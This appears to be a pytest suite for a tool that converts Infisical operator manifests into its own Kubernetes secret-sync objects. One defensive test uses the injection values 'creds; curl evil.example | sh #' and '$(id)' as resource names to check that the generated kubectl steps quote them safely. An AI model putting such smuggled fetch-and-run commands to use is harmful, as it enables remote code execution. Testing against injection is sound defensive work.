"""``secretferry convert``: Infisical operator manifests in, our objects out, the rest reported.

The fixtures in tests/fixtures/infisical/ are written after Infisical's CRDs and docs (see
secretferry/convert/infisical.py for the versions). Every object printed must parse with our own
models; every case checks the objects field by field, the notes, and the exit status.
"""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from secretferry import cli, convert
from secretferry.convert import dispatch, identities, values
from secretferry.kube import workloads
from secretferry.models import base, identity, secretsync
from secretferry.reconcile import tenancy
from secretferry.reconcile.rendering import templating

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "infisical"
MODELS: dict[str, Any] = {
    "SecretSync": secretsync.SecretSync,
    "MachineIdentity": identity.MachineIdentity,
    "ClusterMachineIdentity": identity.ClusterMachineIdentity,
}
# The fake values of the Secret in universal-auth.yaml: they must never come out.
FAKE_VALUES = ("3f1c9a2e-fake-client-id", "fake-client-secret-7d0c4b")


def _fixture(name: str) -> list[dict[str, Any]]:
    path = FIXTURES / name
    return convert.load_documents(path.read_text(encoding="utf-8"), source=str(path))


def _run(*names: str) -> tuple[convert.Result, list[dict[str, Any]]]:
    """Convert fixtures; the objects as the printed YAML holds them."""
    result = convert.convert([obj for name in names for obj in _fixture(name)])
    printed = [doc for doc in yaml.safe_load_all(convert.render(result)) if doc is not None]
    assert printed == [m.body for m in result.manifests]
    return result, printed


def _by_kind(printed: list[dict[str, Any]], kind: str) -> dict[str, dict[str, Any]]:
    return {
        f"{d['metadata'].get('namespace', '')}/{d['metadata']['name']}": d
        for d in printed
        if d["kind"] == kind
    }


def _notes(result: convert.Result) -> list[str]:
    return [str(note) for note in result.notes]


def _cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = cli.main(["convert", *args])
    out, err = capsys.readouterr()
    return code, out, err


# --- every fixture: what comes out, and that our models take it ----------------------------------

CASES = [
    (
        "universal-auth.yaml",
        True,
        [("MachineIdentity", "payments", "payments-api"), ("SecretSync", "payments", "payments-api")],
    ),
    ("kubernetes-auth.yaml", True, [("MachineIdentity", "shop", "web"), ("SecretSync", "shop", "web")]),
    ("template.yaml", False, [("MachineIdentity", "billing", "db"), ("SecretSync", "billing", "db")]),
    (
        "multiple-managed-secrets.yaml",
        True,
        [
            ("ClusterMachineIdentity", None, "infisical-operator-system-shared-config"),
            ("SecretSync", "team-a", "sentry"),
            ("SecretSync", "team-b", "sentry"),
            ("SecretSync", "team-a", "sentry-settings"),
            ("SecretSync", "team-c", "team-c-config"),
        ],
    ),
    ("aws-iam-auth.yaml", False, []),
    (
        "unknown-field.yaml",
        False,
        [("MachineIdentity", "analytics", "reports"), ("SecretSync", "analytics", "reports")],
    ),
    (
        "v1beta1.yaml",
        False,
        [
            ("MachineIdentity", "store", "store-auth"),
            ("MachineIdentity", "store", "batch-auth"),
            ("SecretSync", "store", "checkout-env"),
            ("SecretSync", "store", "checkout-tls"),
            ("SecretSync", "store", "batch"),
        ],
    ),
    ("from-cluster.yaml", True, [("MachineIdentity", "default", "api"), ("SecretSync", "default", "api")]),
]


@pytest.mark.parametrize(("fixture", "complete", "objects"), CASES, ids=[c[0] for c in CASES])
def test_each_fixture_converts_to_these_objects(
    fixture: str, complete: bool, objects: list[tuple[str, str | None, str]]
) -> None:
    result, printed = _run(fixture)
    assert [(d["kind"], d["metadata"].get("namespace"), d["metadata"]["name"]) for d in printed] == objects
    assert result.complete is complete
    assert bool(result.notes) is not complete


@pytest.mark.parametrize("fixture", [c[0] for c in CASES])
def test_every_printed_object_parses_with_our_models(fixture: str) -> None:
    _, printed = _run(fixture)
    for doc in printed:
        parsed = MODELS[doc["kind"]].from_body(doc)
        assert parsed.metadata.name == doc["metadata"]["name"]


@pytest.mark.parametrize("fixture", [c[0] for c in CASES])
def test_the_exit_status_says_whether_everything_was_converted(
    capsys: pytest.CaptureFixture[str], fixture: str
) -> None:
    complete = dict((c[0], c[1]) for c in CASES)[fixture]
    code, out, err = _cli(capsys, "-f", str(FIXTURES / fixture))
    assert code == (0 if complete else 1)
    assert ("# not converted: " in err) is not complete
    assert ("# not converted: " in out) is not complete  # the YAML carries them too
    assert all(isinstance(doc, dict) for doc in yaml.safe_load_all(out) if doc is not None)


# --- v1alpha1, field by field ---------------------------------------------------------------------


def test_universal_auth_becomes_a_namespaced_identity_whose_secret_must_opt_in() -> None:
    result, printed = _run("universal-auth.yaml")
    mid = _by_kind(printed, "MachineIdentity")["payments/payments-api"]
    assert mid["apiVersion"] == "secretferry.io/v1alpha1"
    # hostAPI without Infisical's /api; the Secret's keys are Infisical's, our defaults.
    assert mid["spec"] == {
        "hostAPI": "https://app.infisical.com",
        "auth": {"universal": {"credentialsSecretRef": {"name": "universal-auth-credentials"}}},
    }
    sync = _by_kind(printed, "SecretSync")["payments/payments-api"]
    assert sync["metadata"]["labels"] == {"app.kubernetes.io/name": "payments-api"}
    assert sync["spec"] == {
        "identityRef": {"kind": "MachineIdentity", "name": "payments-api"},
        "sources": [
            {"environment": "prod", "path": "/backend", "projectSlug": "payments-api", "recursive": True}
        ],
        "instantUpdates": False,
        "refreshInterval": "1m30s",
        "target": {
            "name": "payments-api-env",
            "type": "Opaque",
            "creationPolicy": "Owner",
            "deletionPolicy": "Delete",
            # Infisical copies its object's labels and annotations, less kubectl's.
            "labels": {"app.kubernetes.io/name": "payments-api"},
            "annotations": {"team.example.com/owner": "payments"},
        },
    }
    assert result.steps == [
        "kubectl annotate secret -n payments universal-auth-credentials"
        " secretferry.io/allowed-identities=payments-api",
        "kubectl delete infisicalsecret -n payments payments-api --cascade=orphan",
        "kubectl label secret -n payments payments-api-env secretferry.io/sync=payments-api",
    ]
    assert result.skipped == ["Secret/payments/universal-auth-credentials"]


def test_no_secret_value_in_the_input_comes_out(capsys: pytest.CaptureFixture[str]) -> None:
    """The credentials Secret sits in the same file; it is skipped unread."""
    code, out, err = _cli(capsys, "-f", str(FIXTURES / "universal-auth.yaml"))
    assert code == 0
    for value in FAKE_VALUES:
        assert value not in out and value not in err
    assert (
        "# skipped: Secret/payments/universal-auth-credentials (not an Infisical operator object; not read)"
        in err
    )


def test_kubernetes_auth_keeps_identity_audiences_and_ca_and_reloads_the_deployment() -> None:
    result, printed = _run("kubernetes-auth.yaml")
    assert printed[0]["spec"] == {
        "hostAPI": "https://infisical.internal.example.com",
        "tls": {"caSecretRef": {"name": "infisical-ca", "key": "ca.crt"}},
        "auth": {
            "kubernetes": {
                "identityId": "7c1e0b52-3a8f-4d16-9b1e-2f5d0c6a9e41",
                "audiences": ["infisical"],
                "serviceAccountRef": {"name": "web-infisical"},
            }
        },
    }
    sync = printed[1]["spec"]
    assert sync["sources"] == [
        {"environment": "staging", "path": "/", "projectId": "6439ec224cfbf7ea2a95b651"}
    ]
    assert (sync["instantUpdates"], sync["refreshInterval"]) == (True, "1m")  # the CRD's default 60 s
    # managedSecretReference without a creationPolicy: Infisical's default, Orphan.
    assert sync["target"] == {
        "name": "web-secrets",
        "type": "Opaque",
        "creationPolicy": "Orphan",
        "deletionPolicy": "Delete",
    }
    assert result.steps == [
        "kubectl annotate serviceaccount -n shop web-infisical secretferry.io/allowed-identities=web",
        "kubectl annotate secret -n shop infisical-ca secretferry.io/allowed-identities=web",
        "kubectl delete infisicalsecret -n shop web --cascade=orphan",
        "kubectl label secret -n shop web-secrets secretferry.io/sync=web",
        "kubectl annotate deployment -n shop web secretferry.io/auto-reload=true",
    ]


def test_templates_convert_value_lookups_and_report_the_rest() -> None:
    result, printed = _run("template.yaml")
    target = printed[1]["spec"]["target"]
    assert target["type"] == "kubernetes.io/basic-auth"
    assert target["labels"] == {"app": "billing"}  # template.metadata instead of the object's
    assert target["template"] == {
        "data": {
            "DATABASE_URL": 'postgres://{{ DB_USER }}:{{ secrets["db-password"] }}@db:5432/billing',
            "config.json": '{"host": "db", "user": "{{ DB_USER }}'
            '{% raw %}", "note": "{% not a tag %}"}\n{% endraw %}',
            "password": "{{- DB_PASSWORD -}}",
            "username": "{{ DB_USER }}",
        },
        "includeAll": True,
    }
    why = (
        "action 1 is not of the form {{ .KEY.Value }} or {{ .KEY.Value | decodeBase64ToBytes }} (other Go"
        " template functions, pipelines, .SecretPath, conditions and loops have no converted form);"
        " the key is left out"
    )
    assert result.notes == [
        convert.Note(
            "InfisicalSecret/billing/db", f"spec.managedKubeSecretReferences[0].template.data.{key}", why
        )
        for key in ("path", "upper")
    ]


def test_converted_templates_render_what_infisical_rendered() -> None:
    """Rendered by our own sandbox, against values Go's text/template would have printed the same."""
    _, printed = _run("template.yaml")
    data = printed[1]["spec"]["target"]["template"]["data"]
    fetched = {"DB_USER": "app", "DB_PASSWORD": " s3cret\n", "db-password": "p@ss"}
    assert templating.render(data, fetched) == {
        "DATABASE_URL": "postgres://app:p@ss@db:5432/billing",
        "config.json": '{"host": "db", "user": "app", "note": "{% not a tag %}"}\n',
        "password": " s3cret\n",  # {{- -}} trims the template's white space, never the value's
        "username": "app",
    }


def test_one_identity_serves_every_infisical_secret_that_logs_in_alike() -> None:
    result, printed = _run("multiple-managed-secrets.yaml")
    (cmid,) = _by_kind(printed, "ClusterMachineIdentity").values()
    # The credentials are in the operator's namespace, the Secrets in three others: cluster-scoped,
    # admitting exactly those three.
    assert cmid["spec"] == {
        "hostAPI": "https://eu.infisical.com",
        "auth": {
            "universal": {
                "credentialsSecretRef": {
                    "name": "infisical-universal-auth",
                    "namespace": "infisical-operator-system",
                }
            }
        },
        "allowedNamespaces": {"names": ["team-a", "team-b", "team-c"]},
    }
    syncs = _by_kind(printed, "SecretSync")
    assert {s["spec"]["identityRef"]["name"] for s in syncs.values()} == {cmid["metadata"]["name"]}
    assert {s["spec"]["identityRef"]["kind"] for s in syncs.values()} == {"ClusterMachineIdentity"}
    # secretsScope.secretName: that one key.
    assert syncs["team-a/sentry"]["spec"]["sources"][0]["includeKeys"] == ["SENTRY_DSN"]
    assert syncs["team-b/sentry"]["spec"]["target"]["creationPolicy"] == "Owner"
    assert syncs["team-a/sentry-settings"]["spec"]["target"] == {
        "name": "sentry-settings",
        "kind": "ConfigMap",
        "creationPolicy": "Orphan",
        "deletionPolicy": "Delete",
    }
    assert syncs["team-c/team-c-config"]["spec"]["target"]["name"] == "team-c-env"
    assert not any("annotate secret" in step for step in result.steps)  # a cluster identity needs no opt-in
    assert (
        "kubectl label configmap -n team-a sentry-settings secretferry.io/sync=sentry-settings"
        in result.steps
    )


def test_an_unsupported_auth_method_converts_nothing_and_says_why(capsys: pytest.CaptureFixture[str]) -> None:
    result, printed = _run("aws-iam-auth.yaml")
    assert printed == []
    assert _notes(result) == [
        "not converted: InfisicalSecret/workers/lambda-config/spec.authentication.awsIamAuth:"
        " AWS IAM auth has no equivalent; give the machine identity universal or Kubernetes auth at the"
        " service, and use that"
    ]
    code, out, err = _cli(capsys, "-f", str(FIXTURES / "aws-iam-auth.yaml"))
    assert code == 1
    assert err.splitlines() == [f"# {_notes(result)[0]}"]
    assert f"# {_notes(result)[0]}" in out.splitlines()


def test_unknown_fields_are_reported_by_path_and_the_rest_still_converts() -> None:
    result, printed = _run("unknown-field.yaml")
    assert _notes(result) == [
        f"not converted: InfisicalSecret/analytics/reports/{path}: unknown field; nothing here reads it"
        for path in (
            "spec.resyncIntervall",
            "spec.authentication.universalAuth.secretsScope.includeTags",
            "spec.managedKubeSecretReferences[0].immutable",
        )
    ]
    assert printed[1]["spec"]["refreshInterval"] == "1m"  # the misspelt interval was not read


def test_what_kubectl_get_prints_converts_without_noise_from_empty_structs() -> None:
    """Infisical writes unset auth methods back as zero values; they are not methods in use."""
    result, printed = _run("from-cluster.yaml")
    assert result.notes == []
    assert printed[0]["spec"]["auth"] == {
        "universal": {"credentialsSecretRef": {"name": "universal-auth-credentials"}}
    }
    assert "tls" not in printed[0]["spec"]
    assert printed[1]["spec"]["target"]["name"] == "api-managed-secrets"
    assert "labels" not in printed[1]["metadata"]  # status, uid, finalizers: not carried over


# --- v1beta1 -------------------------------------------------------------------------------------


def test_v1beta1_auth_connection_and_static_secret() -> None:
    result, printed = _run("v1beta1.yaml")
    mids = _by_kind(printed, "MachineIdentity")
    assert mids["store/store-auth"]["spec"] == {
        "hostAPI": "https://infisical.example.com",
        "auth": {
            "kubernetes": {
                # In a Secret the converter does not read: a placeholder, and a note.
                "identityId": "<identity ID from Secret store/store-identity, key identityId>",
                "audiences": ["infisical-store"],
                "serviceAccountRef": {"name": "store-login"},
            }
        },
    }
    # clientIdRef and clientSecretRef in one Secret: credentialsSecretRef with their keys.
    assert mids["store/batch-auth"]["spec"] == {
        "auth": {
            "universal": {
                "credentialsSecretRef": {
                    "name": "batch-credentials",
                    "clientIdKey": "client-id",
                    "clientSecretKey": "client-secret",
                }
            }
        }
    }
    syncs = _by_kind(printed, "SecretSync")
    env = syncs["store/checkout-env"]["spec"]
    assert env["identityRef"] == {"kind": "MachineIdentity", "name": "store-auth"}
    assert (env["refreshInterval"], env["instantUpdates"]) == ("2m", True)
    # Infisical's first source wins a key, our last: reversed.
    assert env["sources"] == [
        {
            "projectId": "5f2a9c1e8b7d4e3f2a1b0c9d",
            "environment": "prod",
            "path": "/shared",
            "recursive": True,
        },
        {
            "projectId": "5f2a9c1e8b7d4e3f2a1b0c9d",
            "environment": "prod",
            "path": "/checkout",
            "tagSlugs": ["backend"],
        },
    ]
    assert env["target"]["labels"] == {"app": "checkout"}
    tls = syncs["store/checkout-tls"]["spec"]["target"]
    assert tls == {
        "name": "checkout-tls",
        "type": "kubernetes.io/tls",
        "creationPolicy": "Orphan",
        "deletionPolicy": "Delete",
        "labels": {"cert": "checkout"},  # the target's own metadata, not the object's
        "template": {"data": {"tls.crt": "{{ TLS_CERT }}", "tls.key": "{{ TLS_KEY }}"}},
    }
    batch = syncs["store/batch"]["spec"]
    assert (batch["refreshInterval"], batch["target"]["kind"]) == ("24h", "ConfigMap")
    assert _notes(result) == [
        "not converted: InfisicalAuth/store/store-auth/spec.kubernetes.identityIdRef:"
        " the identity ID is in Secret store/store-identity (key identityId), which the converter never"
        " reads: write it into spec.auth.kubernetes.identityId in place of the placeholder"
    ]


def test_v1beta1_objects_may_come_from_several_files(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    docs = _fixture("v1beta1.yaml")
    auths = tmp_path / "auth.yaml"
    syncs = tmp_path / "sync.yaml"
    auths.write_text(yaml.safe_dump_all([d for d in docs if d["kind"] != "InfisicalStaticSecret"]))
    syncs.write_text(yaml.safe_dump_all([d for d in docs if d["kind"] == "InfisicalStaticSecret"]))
    code, out, _ = _cli(capsys, "-f", str(syncs), "-f", str(auths))
    single = convert.render(convert.convert(docs))
    assert code == 1
    assert out == single


# --- smaller cases --------------------------------------------------------------------------------


def _infisical_secret(name: str = "app", **spec: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "authentication": {
            "universalAuth": {
                "credentialsRef": {"secretName": "creds", "secretNamespace": "ns"},
                "secretsScope": {"projectSlug": "p", "envSlug": "dev", "secretsPath": "/"},
            }
        },
        "managedKubeSecretReferences": [{"secretName": name, "secretNamespace": "ns"}],
    }
    return {
        "apiVersion": "secrets.infisical.com/v1alpha1",
        "kind": "InfisicalSecret",
        "metadata": {"name": name, "namespace": "ns"},
        "spec": base | spec,
    }


def test_kubernetes_auth_without_an_audience_is_noted_for_a_namespaced_identity() -> None:
    auth = {
        "kubernetesAuth": {
            "identityId": "id-1",
            "serviceAccountRef": {"name": "sa", "namespace": "ns"},
            "secretsScope": {"projectSlug": "p", "envSlug": "dev", "secretsPath": "/"},
        }
    }
    result = convert.convert([_infisical_secret(authentication=auth)])
    assert [m.body["kind"] for m in result.manifests] == ["MachineIdentity", "SecretSync"]
    assert _notes(result) == [
        "not converted: InfisicalSecret/ns/app/spec.authentication.kubernetesAuth"
        ".serviceAccountTokenAudiences: a namespaced MachineIdentity needs an audience: set"
        " spec.auth.kubernetes.audiences to the identity's allowed audience at the service"
    ]
    assert result.manifests[0].comments[0] == (
        "Infisical read a stored ServiceAccount token; secretferry mints one per login"
    )


@pytest.mark.parametrize(
    ("spec", "field", "why"),
    [
        (
            {"authentication": {"serviceToken": {"serviceTokenSecretReference": {"secretName": "t"}}}},
            "spec.authentication.serviceToken",
            "service tokens have no equivalent",
        ),
        ({"authentication": {}}, "spec.authentication", "sets no authentication method"),
        (
            {
                "authentication": {
                    "universalAuth": {"credentialsRef": {"secretName": "a"}},
                    "kubernetesAuth": {"identityId": "x"},
                }
            },
            "spec.authentication",
            "sets both universalAuth and kubernetesAuth",
        ),
        (
            {"managedKubeSecretReferences": []},
            "spec.managedKubeSecretReferences",
            "names no Secret or ConfigMap",
        ),
        (
            {
                "managedKubeSecretReferences": [
                    {"secretName": "x", "secretNamespace": "ns", "creationPolicy": "Merge"}
                ]
            },
            "spec.managedKubeSecretReferences[0].creationPolicy",
            "is neither Owner nor Orphan",
        ),
        (
            {
                "managedKubeSecretReferences": [
                    {"secretName": "x", "secretType": "kubernetes.io/service-account-token"}
                ]
            },
            "spec",
            "Secrets of type kubernetes.io/service-account-token",
        ),
        ({"resyncInterval": "soon"}, "spec", "not a valid InfisicalSecret: spec.resyncInterval"),
    ],
)
def test_what_cannot_be_converted_is_noted_and_not_printed(
    spec: dict[str, Any], field: str, why: str
) -> None:
    result = convert.convert([_infisical_secret(**spec)])
    assert not any(m.body["kind"] == "SecretSync" for m in result.manifests)
    assert any(n.field == field and why in n.why for n in result.notes), _notes(result)


def test_a_template_nothing_of_which_converts_is_not_widened_to_every_key() -> None:
    managed = [
        {"secretName": "app", "secretNamespace": "ns", "template": {"data": {"X": "{{ .A.SecretPath }}"}}}
    ]
    result = convert.convert([_infisical_secret(managedKubeSecretReferences=managed)])
    assert [m.body["kind"] for m in result.manifests] == ["MachineIdentity"]
    assert _notes(result)[-1].endswith(
        "no template key could be converted, and without one every fetched key would be written"
    )


def test_other_infisical_kinds_and_a_missing_auth_are_noted() -> None:
    push = {
        "apiVersion": "secrets.infisical.com/v1alpha1",
        "kind": "InfisicalPushSecret",
        "metadata": {"name": "p"},
    }
    static = next(d for d in _fixture("v1beta1.yaml") if d["metadata"]["name"] == "batch")
    result = convert.convert([push, static])
    assert result.manifests == []
    assert sorted(_notes(result)) == [
        "not converted: InfisicalPushSecret/p/spec: pushes to or leases from the service; secretferry only"
        " syncs secrets into the cluster",
        "not converted: InfisicalStaticSecret/store/batch/spec.infisicalAuthRef:"
        " InfisicalAuth/store/batch-auth is not in the input, or was not converted",
    ]


def test_names_taken_twice_get_a_suffix() -> None:
    first, second = _infisical_secret(), _infisical_secret()
    second["spec"]["hostAPI"] = "https://other.example.com/api"  # another login, the same name
    result = convert.convert([first, second])
    names = [(m.body["kind"], m.body["metadata"]["name"]) for m in result.manifests]
    assert names == [
        ("MachineIdentity", "app"),
        ("MachineIdentity", "app-2"),
        ("SecretSync", "app"),
        ("SecretSync", "app-2"),
    ]
    assert result.manifests[3].body["spec"]["identityRef"]["name"] == "app-2"


def test_nothing_infisical_in_the_input_is_not_a_success() -> None:
    result = convert.convert([{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "c"}}])
    assert _notes(result) == [
        "not converted: (input)/kind: holds no InfisicalSecret, InfisicalStaticSecret or InfisicalAuth"
    ]
    assert result.skipped == ["ConfigMap/c"]


# --- pure values ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("https://app.infisical.com/api", "https://app.infisical.com"),
        ("https://eu.infisical.com/api/", "https://eu.infisical.com"),
        ("http://infisical.infisical.svc:8080/api", "http://infisical.infisical.svc:8080"),
        ("https://infisical.example.com", "https://infisical.example.com"),
        ("https://proxy.example.com/infisical/api", "https://proxy.example.com/infisical"),
    ],
)
def test_host_api_drops_infisicals_api_suffix(given: str, expected: str) -> None:
    assert values.host_api(given) == expected


@pytest.mark.parametrize(
    ("seconds", "text"), [(1, "1s"), (60, "1m"), (90, "1m30s"), (3600, "1h"), (3661, "1h1m1s")]
)
def test_duration(seconds: int, text: str) -> None:
    assert values.duration(seconds) == text
    assert base.parse_duration(text) == seconds


@pytest.mark.parametrize(
    ("text", "seconds"),
    [("60s", 60), ("5m", 300), ("2h", 7200), ("1d", 86400), ("1w", 604800), ("1.5h", None), ("", None)],
)
def test_v1beta1_intervals(text: str, seconds: int | None) -> None:
    assert values.interval_seconds(text) == seconds


@pytest.mark.parametrize(
    ("go", "jinja"),
    [
        ("{{ .A.Value }}", "{{ A }}"),
        ("{{.A.Value}}", "{{ A }}"),
        ("x={{- .A.Value -}};", "x={{- A -}};"),
        ('{{ (index . "db-pass").Value }}', '{{ secrets["db-pass"] }}'),
        (
            "{{ .range.Value }}{{ .secrets.Value }}{{ .if.Value }}",
            '{{ secrets["range"] }}{{ secrets["secrets"] }}{{ secrets["if"] }}',
        ),
        ("literal {% and {# stay", "{% raw %}literal {% and {# stay{% endraw %}"),
        ("no actions", "no actions"),
        ("{{ .A.Value | decodeBase64ToBytes }}", "{{ A | b64dec_bytes }}"),
        ("\n{{- decodeBase64ToBytes .A.Value -}}\n", "\n{{- A | b64dec_bytes -}}\n"),
        ('{{ decodeBase64ToBytes (index . "k.p12").Value }}', '{{ secrets["k.p12"] | b64dec_bytes }}'),
        ("pw={{ .A.Value | decodeBase64ToBytes }}", "pw={{ A | b64dec }}"),
        ("{{ .A.Value | decodeBase64ToBytes | upper }}", None),
        ("{{ .A.Value | upper }}", None),
        ("{{ .A.SecretPath }}", None),
        ("{{ if .A }}x{{ end }}", None),
        ('{{ printf "%s" .A.Value }}', None),
        ("{{ .A.Value", None),
        ("{% endraw %}{{ .A.Value }}", None),
    ],
)
def test_go_templates_to_jinja(go: str, jinja: str | None) -> None:
    assert values.go_template_to_jinja(go)[0] == jinja


@pytest.mark.parametrize(
    "key", ["DB_USER", "db-pass", "range", "secrets", "if", "none", "loop", "a.b", "_x", "9z"]
)
def test_a_key_is_named_so_that_our_templates_find_it(key: str) -> None:
    rendered = templating.render({"out": f"{{{{ {values.jinja_name(key)} }}}}"}, {key: "v"})
    assert rendered == {"out": "v"}
    if values.jinja_name(key) == key:  # a bare name only where the sandbox has that variable
        assert templating.context_for({key: "v"})[key] == "v"
    else:
        assert values.jinja_name(key) == f"secrets[{json.dumps(key)}]"


def test_annotations_spelt_out_agree_with_the_operators() -> None:
    assert dispatch.AUTO_RELOAD_ANNOTATION == workloads.AUTO_RELOAD_ANNOTATION
    assert identities.ALLOWED_IDENTITIES_ANNOTATION == tenancy.ALLOWED_IDENTITIES_ANNOTATION


# --- the command ----------------------------------------------------------------------------------


def test_stdin_with_dash(tmp_path: Path) -> None:
    text = (FIXTURES / "kubernetes-auth.yaml").read_text(encoding="utf-8")
    run = CliRunner().invoke(cli.command, ["convert", "-f", "-"], input=text)
    assert run.exit_code == 0, run.output
    assert [d["kind"] for d in yaml.safe_load_all(run.stdout) if d] == ["MachineIdentity", "SecretSync"]
    assert "# to do: kubectl annotate deployment -n shop web secretferry.io/auto-reload=true" in run.stderr


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("kind: InfisicalSecret\nspec: [unclosed\n", "not valid YAML at line 3, column 1"),
        ("- a\n- b\n", "document 1 is not an object (or a List of them)"),
        ("kind: List\nitems: [1]\n", "document 1 is not an object (or a List of them)"),
    ],
)
def test_input_that_is_not_yaml_objects_exits_2(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, content: str, message: str
) -> None:
    path = tmp_path / "in.yaml"
    path.write_text(content)
    code, out, err = _cli(capsys, "-f", str(path))
    assert (code, out) == (2, "")
    assert err == f"secretferry convert: {path}: {message}\n"


def test_a_file_that_is_not_utf8_exits_2(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "in.yaml"
    path.write_bytes(b"kind: \xff\xfe\n")
    assert _cli(capsys, "-f", str(path)) == (2, "", f"secretferry convert: {path}: not UTF-8 text\n")


def test_a_yaml_error_does_not_quote_the_line(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "in.yaml"
    path.write_text("apiVersion: v1\nkind: Secret\nstringData:\n  password: 'hunter2-not-closed\n")
    code, _, err = _cli(capsys, "-f", str(path))
    assert code == 2
    assert "hunter2" not in err


@pytest.mark.parametrize(
    ("args", "message"),
    [([], "name the manifests with -f FILE"), (["-f", "/no/such/file.yaml"], "No such file")],
)
def test_usage_errors_exit_2(capsys: pytest.CaptureFixture[str], args: list[str], message: str) -> None:
    code, out, err = _cli(capsys, *args)
    assert (code, out) == (2, "")
    assert message in err


def test_convert_loads_neither_the_operator_nor_the_kubernetes_client() -> None:
    loaded_not = [
        "kopf",
        "aiohttp",
        "httpx",
        "secretferry.reconcile",
        "secretferry.kube",
        "secretferry.handlers",
    ]
    proc = subprocess.run(
        [
            sys.executable,
            "-c",
            "import contextlib, io, json, sys\n"
            "from secretferry import cli\n"
            "with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):\n"
            f"    code = cli.main(['convert', '-f', {str(FIXTURES / 'v1beta1.yaml')!r}])\n"
            f"print(json.dumps([code, [m for m in {loaded_not!r} if m in sys.modules]]))",
        ],
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout) == [1, []]


def test_names_in_the_steps_reach_a_shell_as_single_quoted_words() -> None:
    # The input is often objects tenants wrote, and a reference in an Infisical CR is any string:
    # a person pastes these steps into a shell, so no name may become a command of its own.
    hostile = "creds; curl evil.example | sh #"
    obj = _infisical_secret(
        "app",
        authentication={
            "universalAuth": {
                "credentialsRef": {"secretName": hostile, "secretNamespace": "ns"},
                "secretsScope": {"projectSlug": "p", "envSlug": "dev", "secretsPath": "/"},
            }
        },
        managedKubeSecretReferences=[{"secretName": "$(id)", "secretNamespace": "ns"}],
    )
    result = convert.convert([obj])
    opt_in = [s for s in result.steps if "allowed-identities" in s]
    assert opt_in, result.steps
    for step in result.steps:
        words = shlex.split(step)
        assert words[0] == "kubectl"
        assert ";" not in words and "|" not in words
    assert hostile in shlex.split(opt_in[0])  # one word, unchanged
    rendered = convert.render(result)
    assert "; curl" not in rendered.replace(f"'{hostile}'", "")


def test_copied_metadata_leaves_out_marks_another_controller_acts_on() -> None:
    """An InfisicalSecret installed by Helm or Argo CD carries their labels; a SecretSync may not
    ask for them (TargetMetadataForbidden), so the copy leaves them out."""
    copied = values.copied_labels(
        {
            "app": "web",
            "app.kubernetes.io/name": "web",
            "app.kubernetes.io/instance": "web",
            "app.kubernetes.io/managed-by": "Helm",
            "helm.sh/chart": "web-1.0.0",
            "owner": "helm",
        }
    )
    assert copied == {"app": "web", "app.kubernetes.io/name": "web"}
    annotations = values.copied_annotations(
        {"team": "a", "meta.helm.sh/release-name": "web", "argocd.argoproj.io/tracking-id": "x"}
    )
    assert annotations == {"team": "a"}


def test_kubernetes_auth_without_an_audience_is_noted_for_a_cluster_identity_too() -> None:
    """Empty audiences mean the apiserver's own: sent only with allowAPIServerAudience, never by default."""
    auth = {
        "kubernetesAuth": {
            "identityId": "id-1",
            "serviceAccountRef": {"name": "sa", "namespace": "elsewhere"},
            "secretsScope": {"projectSlug": "p", "envSlug": "dev", "secretsPath": "/"},
        }
    }
    result = convert.convert([_infisical_secret(authentication=auth)])
    assert [m.body["kind"] for m in result.manifests] == ["ClusterMachineIdentity", "SecretSync"]
    assert "allowAPIServerAudience" not in str(result.manifests[0].body)
    [note] = _notes(result)
    assert note.endswith(
        "serviceAccountTokenAudiences: without audiences the token would be valid for the"
        " Kubernetes API itself, which is sent only with spec.auth.kubernetes."
        "allowAPIServerAudience: true (AudienceNotAllowed): set audiences to the identity's"
        " allowed audience at the service"
    )
